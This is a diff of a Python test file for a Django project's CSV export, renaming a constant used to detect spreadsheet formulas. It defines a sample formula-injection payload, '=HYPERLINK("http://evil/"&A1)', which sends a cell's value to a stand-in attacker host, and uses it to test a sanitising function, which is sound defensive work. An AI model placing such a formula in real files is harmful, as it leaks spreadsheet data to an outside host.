@@ -19,7 +19,7 @@ from tests.database import there_for_all
 from tests.factory import make_study
 from tests.factory.completed import complete
 from tests.factory.runs import add_runs
-from web.formats import RUNS, csv_lines, harmless
+from web.formats import FORMULA_STARTS, csv_lines, harmless
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
@@ -63,7 +63,7 @@ def would_run(cell: str) -> bool:
     try:
         float(cell)
     except ValueError:
-        return cell.startswith(RUNS)
+        return cell.startswith(FORMULA_STARTS)
     return False
 
 
